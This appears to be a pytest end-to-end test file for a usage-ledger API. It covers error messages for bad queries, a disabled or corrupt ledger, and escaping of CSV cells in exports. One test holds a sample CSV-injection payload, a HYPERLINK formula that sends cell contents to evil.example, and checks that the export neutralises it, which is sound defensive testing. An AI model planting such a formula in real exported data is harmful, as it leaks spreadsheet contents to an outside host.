"""Whatever is asked of the ledger: mistakes are told in words, and files are safe to open."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import aiohttp
import pytest

from tests.e2e.conftest import Start
from tests.server.admin.ledgers import get, text, write
from tests.telemetry.ledger.records import record


@pytest.mark.parametrize(
    ("query", "word"),
    [
        ("since=soon", "write 7d"),
        ("tz=Berlin", "write +02:00"),
        ("by=providers", "did you mean provider?"),
        ("status=bad", "no status"),
        ("status=99999999999999999999", "too large"),
        ("limit=x", "limit"),
        ("format=xml", "format"),
    ],
)
async def test_a_mistake_is_told(start: Start, http: aiohttp.ClientSession, query: str, word: str) -> None:
    told = await get(http, f"{await start()}/api/usage?{query}", 400)
    assert told["error"]["type"] == "invalid_request_error"
    assert word in told["error"]["message"]


async def test_a_ledger_that_is_off_is_told(start: Start, http: aiohttp.ClientSession) -> None:
    told = await get(http, f"{await start(Ledger={'enabled': False})}/api/usage", 404)
    assert "Ledger.enabled" in told["error"]["message"]


async def test_a_broken_ledger_is_told(start: Start, http: aiohttp.ClientSession, tmp_path: Path) -> None:
    (tmp_path / "ccr.db").write_bytes(b"this is no database " * 500)
    told = await get(http, f"{await start()}/api/usage", 503)
    assert "not a database" in told["error"]["message"]


async def test_no_cell_of_a_table_is_a_formula(
    start: Start, http: aiohttp.ClientSession, tmp_path: Path
) -> None:
    """A client chooses the name of the model it asks for."""
    evil = '=HYPERLINK("http://evil.example?"&A1),\n'
    write(tmp_path, record(1, asked=evil, session="+1", agent="-x", project="@y"))
    body = await text(http, f"{await start()}/api/requests?format=csv")
    (row,) = csv.DictReader(io.StringIO(body))
    assert row["asked"] == "'" + evil
    assert (row["session"], row["agent"], row["project"]) == ("'+1", "'-x", "'@y")
    assert row["input"] == "10"
